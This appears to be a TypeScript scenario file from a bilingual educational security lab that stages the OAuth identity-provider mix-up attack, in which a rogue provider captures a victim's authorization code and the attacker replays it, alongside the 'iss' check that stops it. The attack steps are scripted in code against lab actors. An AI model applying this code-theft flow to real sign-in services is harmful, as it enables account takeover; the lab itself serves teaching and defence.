/** The broker asks one identity provider, another answers, and the first gets the code. */

import { ANGELA, abbreviate, MALO, PROVIDER, SERVICE } from '../actors.ts';
import { type Attack, fails } from '../attack.ts';
import { outcomeOf, trapWithOwnSignIn } from '../own-sign-in.ts';

const FALSE_PROVIDER = 'sesame';

export const mixUp: Attack = {
  id: 'mix-up',
  rfc: 'RFC 9700 §4.4, RFC 9207',
  title: { fr: 'La confusion des fournisseurs', en: 'The identity provider mix-up' },
  hook: {
    fr: 'Le tiers de confiance apporte le code d’Angela au mauvais fournisseur d’identité.',
    en: 'The broker takes Angela’s code to the wrong identity provider.',
  },
  scene: {
    fr: '« Sésame », un fournisseur d’identité de la fédération, est passé aux mains de Malo. Qui le choisit est renvoyé aussitôt vers Compte Azur, l’honnête. Le tiers de confiance, lui, croit toujours parler à Sésame.',
    en: '“Sésame”, an identity provider of the federation, has fallen into Malo’s hands. Whoever chooses it is sent straight on to Compte Azur, the honest one. The broker still thinks it is talking to Sésame.',
  },
  victimSees: {
    fr: 'La vraie page de Compte Azur, puis une erreur. Rien de suspect.',
    en: 'The real page of Compte Azur, then an error. Nothing suspicious.',
  },
  attackerGains: {
    fr: 'Le code qu’Azur a émis pour Angela. Glissé dans une connexion que Malo a commencée, il ouvre le compte d’Angela.',
    en: 'The code that Azur issued for Angela. Slipped into a sign-in that Malo began, it opens Angela’s account.',
  },
  weakness: 'broker.ignores-iss',
  check: "if (weaknesses.includes('broker.ignores-iss')) answer.searchParams.delete('iss');",
  defence: {
    fr: 'La réponse d’un fournisseur porte son nom, le paramètre « iss ». Le tiers de confiance le compare à celui qu’il a choisi avant d’apporter le code à qui que ce soit.',
    en: 'A provider’s answer carries its name, the parameter “iss”. The broker compares it with the one it chose before it takes the code to anyone.',
  },
  refusal: 'Y020026',
  async prepare(lab) {
    const azur = lab.item('identityProviders', PROVIDER);
    const url = `${lab.url('attacker')}/idp`;
    const [authorization, token, userinfo] = ['authorize', 'token', 'userinfo'];
    await lab.put('identityProviders', {
      ...azur,
      id: FALSE_PROVIDER,
      uid: 'sesame-in-the-hands-of-malo',
      name: { fr: 'Sésame', en: 'Sésame' },
      hosted: false,
      clientId: 'trait-d-union-at-sesame',
      clientSecret: 'demonstration-secret-of-trait-d-union-at-sesame',
      url,
      endpoints: {
        authorization: `${url}/${authorization}`,
        token: `${url}/${token}`,
        userinfo: `${url}/${userinfo}`,
      },
    });
  },
  async play(lab, narrate) {
    const state = await trapWithOwnSignIn(lab, {
      endpoint: `${lab.url(PROVIDER)}/authorize`,
      url: `${lab.url(SERVICE)}/login`,
      via: PROVIDER,
    });
    narrate(
      'attacker',
      'Commence une connexion par Compte Azur et s’arrête à sa porte : il en garde le state et le nonce. Sésame renverra ses visiteurs là.',
      'Starts a sign-in through Compte Azur and stops at its door: he keeps state and nonce. Sésame will send its visitors there.',
    );
    const page = await lab.victim.signIn({
      url: `${lab.url(SERVICE)}/login`,
      login: ANGELA.login,
      via: FALSE_PROVIDER,
    });
    narrate(
      'victim',
      'Choisit Sésame, arrive chez Compte Azur, donne son mot de passe à Azur.',
      'Chooses Sésame, arrives at Compte Azur, gives her password to Azur.',
    );
    const captured = await lab.notebook.first('code');
    if (!captured?.code)
      return fails(
        'Le tiers de confiance s’arrête : Azur a répondu, c’est Sésame qu’il attendait. Le code ne part pas.',
        'The broker stops: Azur answered, Sésame was expected. The code goes nowhere.',
        page.refusal,
      );
    const { code } = captured;
    narrate(
      'broker',
      `Apporte le code d’Azur, ${abbreviate(code)}, à Sésame – donc à Malo.`,
      `Takes Azur’s code, ${abbreviate(code)}, to Sésame – that is, to Malo.`,
    );
    const callback = new URL(`${lab.issuer}/oidc-callback`);
    callback.search = new URLSearchParams({ code, state }).toString();
    const end = await lab.attacker.signIn({ url: callback.href, login: MALO.login });
    narrate('attacker', 'Termine sa connexion avec ce code.', 'Ends his sign-in with this code.');
    return outcomeOf(end);
  },
};
